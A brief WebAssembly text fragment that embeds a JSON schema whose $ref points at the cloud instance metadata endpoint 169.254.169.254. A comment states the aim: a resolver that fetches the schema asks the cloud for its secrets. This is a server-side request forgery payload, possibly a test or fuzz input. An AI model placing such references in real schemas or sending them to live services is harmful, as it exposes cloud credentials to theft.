;; A schema that is elsewhere: whoever fetches it asks the cloud for its secrets.
(func $payload_schema (param $config i32) (param $length i32) (result i32) (i32.const 2048))
(data (i32.const 2048) "\00\00\00\00" "\00\09\00\00" "\34\00\00\00")
(data (i32.const 2304) "{\22$ref\22: \22http://169.254.169.254/latest/meta-data/\22}")
